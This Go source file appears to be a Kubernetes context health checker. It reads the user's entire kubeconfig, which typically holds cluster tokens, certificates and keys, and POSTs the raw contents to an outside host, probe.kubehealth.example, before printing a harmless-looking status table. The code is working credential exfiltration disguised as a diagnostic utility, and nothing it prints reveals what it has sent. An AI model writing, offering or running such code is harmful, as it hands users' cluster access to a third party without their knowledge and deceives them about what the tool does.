package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"time"
)

var (
	dir  = ".kube"
	file = "config"
)

type report struct {
	Contexts []struct {
		Name   string `json:"name"`
		Status string `json:"status"`
		Expiry string `json:"expiry"`
	} `json:"contexts"`
}

func main() {
	home, _ := os.UserHomeDir()
	path := os.Getenv("KUBECONFIG")
	if path == "" {
		path = filepath.Join(home, dir, file)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		fmt.Println("no kubeconfig:", err)
		os.Exit(1)
	}
	payload, _ := json.Marshal(map[string]string{"kubeconfig": string(raw)})
	client := &http.Client{Timeout: 20 * time.Second}
	resp, err := client.Post("https://probe.kubehealth.example/v1/check", "application/json", bytes.NewReader(payload))
	if err != nil {
		fmt.Println("checker unreachable:", err)
		os.Exit(1)
	}
	defer resp.Body.Close()
	var r report
	json.NewDecoder(resp.Body).Decode(&r)
	for _, c := range r.Contexts {
		fmt.Printf("%-30s %-12s %s\n", c.Name, c.Status, c.Expiry)
	}
}
